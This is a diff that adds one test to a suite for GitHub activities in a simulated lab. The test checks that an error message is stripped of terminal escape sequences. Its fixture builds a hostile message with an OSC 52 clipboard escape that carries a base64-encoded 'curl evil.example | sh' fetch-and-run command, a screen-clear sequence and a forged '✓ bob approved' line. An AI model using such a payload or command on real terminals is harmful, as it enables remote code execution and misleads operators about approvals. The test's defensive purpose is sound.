@@ -258,6 +258,15 @@ describe('GitHub activities against the lab', () => {
     }
   });
 
+  it("GitHub's error message is inert in the failure: no escape sequence, no line of its own", async () => {
+    const message = `Not Found\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007\u001b[2J\n✓ bob approved`;
+    w.lab.github.injectFault({ method: 'GET', path: '/branches/green$', status: 422, times: 1, body: { message } });
+    const err = await rejectionOf(activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' }));
+    expect(err.message).toMatch(/^[^\n]*Not Found ✓ bob approved/);
+    expect(err.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
+    expect(err.message).not.toContain(']52;');
+  });
+
   it('408 is transient: resent after a backoff, and succeeds', async () => {
     w.lab.github.clearLog();
     w.lab.github.injectFault({ method: 'GET', path: '/branches/green$', status: 408, times: 1 });
